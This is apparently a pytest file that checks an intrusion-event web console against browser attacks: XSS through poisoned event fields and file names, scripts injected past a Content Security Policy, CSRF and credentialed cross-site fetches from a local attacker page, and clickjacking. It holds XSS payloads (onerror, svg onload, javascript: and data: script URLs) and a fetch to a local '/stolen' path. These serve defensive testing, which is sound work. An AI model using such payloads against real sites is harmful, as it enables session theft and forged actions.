"""Attacks that need a browser: does a script that got in run, and what can another site do to an operator?"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from openstreamer.authority import EVENT_CLASSES
from openstreamer.layouts.intrusion import IntrusionEvent
from openstreamer.server.statistics import Refusal
from openstreamer.wire import encoder
from support.live_service import SECOND, LiveService, Start, append, rule_message, wait_until
from support.operator_at_browser import Operator, driver, operator, webdriver
from support.web_attacks import ENDING, MARKUP, PARAMETERS
from support.web_client import start_with_pages

__all__ = ["driver", "operator"]


class Site:
    """A site of an attacker on another port; the operator's browser visits it."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.asked: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                body = site.pages.get(self.path.partition("?")[0], "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript" if ".js" in self.path else "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    site = Site()
    yield site
    site.close()


def hacked(driver: webdriver.Chrome) -> list[object]:
    """Signs that a foreign script ran, or that foreign markup became part of the page."""
    return driver.execute_script(
        "return [window.hacked, document.title.includes('hacked')].filter(Boolean).concat("
        "[...document.querySelectorAll('img, iframe, object, embed, base, [onerror], [onload], [onclick], "
        'script:not([src^="/static/"])\')].map(element => element.outerHTML))'
    )


def poison(live: LiveService) -> None:
    """Put markup into everything that comes from elsewhere: events, rules, file names, peers, clients."""
    event = encoder(IntrusionEvent, 85)(
        IntrusionEvent(
            block_type=85, event_id=1, event_second=SECOND, generator_id=1, signature_id=1000,
            source_ip="192.0.2.1", destination_ip="192.0.2.2", http_uri=MARKUP, smtp_from=MARKUP,
            smtp_to=MARKUP, http_hostname=MARKUP, ingress_vrf=MARKUP,
        )
    )  # fmt: skip
    append(live.store, [(400, event), (9999, MARKUP.encode())], metadata=[(66, rule_message(1000, MARKUP))])
    statistics = live.service.statistics
    statistics.refused[MARKUP] += 1
    statistics.last_refused.append(Refusal(time.time(), MARKUP, MARKUP, MARKUP))
    statistics.clients["one.invalid"].hosts_lost[MARKUP] += 1
    statistics.clients["one.invalid"].lost[f"record 400: {MARKUP}"] += 1
    web = live.service._web
    assert web is not None
    web.context.audit.write(MARKUP, MARKUP, host=MARKUP)


def test_no_page_runs_what_came_in(driver: webdriver.Chrome, start: Start, tmp_path: Path) -> None:
    """Every page of the table, filled with markup wherever it shows something from outside."""
    folder = tmp_path / "<img src=x onerror=hacked=1>"
    folder.mkdir()
    file = folder / "eve.json"
    file.write_text(f'{{"event_type": {MARKUP}\n')
    live = start_with_pages(start, inputs=[f"eve:{quote(str(file))}"])
    wait_until(lambda: any(intake.totals.broken for intake in live.service.intakes))
    poison(live)
    driver.delete_all_cookies()
    driver.execute_cdp_cmd("Network.setUserAgentOverride", {"userAgent": MARKUP})
    person = Operator(driver, live.service.web_address, tmp_path)
    shown = 0
    try:
        person.log_in()
        person.errors()
        for target in ENDING:
            if not target.page or target.path.endswith("/file"):
                continue
            for query in ("", f"?{urlencode(dict.fromkeys(PARAMETERS, MARKUP))}"):
                person.open(target.path + query)
                assert hacked(driver) == [], target.path
                shown += "<script>hacked=1" in person.words
        person.open("/events")
        person.find("#live").click()
        person.see("watching")
        append(live.store, [(9999, MARKUP.encode())], metadata=[(66, rule_message(1000, MARKUP))])
        wait_until(lambda: len(person.all("#rows tr")) == 3)
        assert hacked(driver) == []
    finally:
        driver.execute_cdp_cmd("Network.setUserAgentOverride", {"userAgent": ""})
        person.open("/healthz")
    assert shown >= 5, "the pages did show the markup, as text"
    assert not [line for line in person.errors() if "Content Security Policy" in line], "nothing came so far"


def test_an_injected_script_does_not_run(operator: tuple[Operator, LiveService], site: Site) -> None:
    """The policy holds where escaping would not: on every page, for every way of bringing a script in."""
    person, _ = operator
    site.pages["/evil.js"] = "window.hacked = 1"
    person.log_in()
    for target in ENDING:
        if not target.page or target.path.endswith(("/file", "/now", "/names")):
            continue
        person.open(target.path)
        person.driver.execute_script(
            """
            const main = document.querySelector("main");
            main.insertAdjacentHTML("beforeend", `<img src=/nothing onerror="window.hacked=1">
              <a id=evil href="javascript:window.hacked=1">x</a><svg onload="window.hacked=1"></svg>
              <iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
              <div hx-get="/status/now" hx-trigger="load" hx-on::load="window.hacked=1"
                   hx-vals="js:{a: window.hacked=1}"></div>`);
            window.htmx?.process(main);
            for (const source of [null, arguments[0], "data:text/javascript,window.hacked=1"]) {
              const script = document.createElement("script");
              if (source) script.src = source; else script.textContent = "window.hacked=1";
              document.head.append(script);
            }
            document.querySelector("#evil").click();
            """,
            f"http://127.0.0.1:{site.port}/evil.js",
        )
        time.sleep(0.1)
        assert person.driver.execute_script("return window.hacked") is None, target.path
        # What an intruder could read must not be sent anywhere either.
        reached = person.driver.execute_async_script(
            "const [address, done] = arguments;"
            "fetch(address, {mode: 'no-cors'}).then(() => done(true), () => done(false))",
            f"http://127.0.0.1:{site.port}/stolen",
        )
        assert reached is False
    assert site.asked == []


def test_another_site_cannot_act_for_the_operator(operator: tuple[Operator, LiveService], site: Site) -> None:
    """Forms sent from the attacker's page, cross-site and from another port of the same host."""
    person, live = operator
    person.log_in()
    target = person.base
    form = "".join(f'<input name="type" value="{name}">' for name in ("file", "user"))
    site.pages["/types"] = (
        f'<form method="post" action="{target}/types">{form}<input name="csrf" value="x"></form>'
        "<script>document.forms[0].submit()</script>"
    )
    site.pages["/fetch"] = (
        "<script>window.results=[];for (const path of ['/status','/clients/one.invalid/file','/metrics'])"
        f"fetch('{target}'+path,{{credentials:'include'}}).then(a=>a.text()).then(t=>results.push(t),"
        "e=>results.push('refused'));"
        f"fetch('{target}/clients/one.invalid/revoke',{{method:'POST',credentials:'include',mode:'no-cors',"
        "headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'csrf=x'})"
        ".then(()=>results.push('sent'),()=>results.push('refused'))</script>"
    )
    for host in ("127.0.0.1", "localhost"):  # the first is the same site for cookies, the second is not
        person.driver.get(f"http://{host}:{site.port}/types")
        wait_until(lambda: person.driver.current_url.startswith(f"{target}/types"), 10)
        person.see("Refused" if host == "127.0.0.1" else "Log in first.")
        person.driver.get(f"http://{host}:{site.port}/fetch")
        wait_until(lambda: person.driver.execute_script("return window.results.length") == 4, 10)
        answers = person.driver.execute_script("return window.results")
        assert set(answers) <= {"refused", "sent"}, "no answer can be read by another site"
    registry = live.service.authority.registry
    assert registry.server_events() == frozenset(EVENT_CLASSES)
    assert registry.get("one.invalid").revoked is None
    person.open("/status")
    assert person.path() == "/status", "still logged in"


def test_no_page_can_be_framed(operator: tuple[Operator, LiveService], site: Site) -> None:
    """Clickjacking: a page of an attacker that lays ours under its own buttons gets an empty frame."""
    person, _ = operator
    person.log_in()
    for target in ENDING:
        if not target.page or target.path.endswith("/file"):
            continue
        site.pages["/frame"] = f'<iframe src="{person.base}{target.path}"></iframe>'
        person.driver.get(f"http://127.0.0.1:{site.port}/frame")
        person.driver.switch_to.frame(person.find("iframe"))
        try:
            assert "OpenStreamer" not in person.driver.page_source, target.path
        finally:
            person.driver.switch_to.default_content()
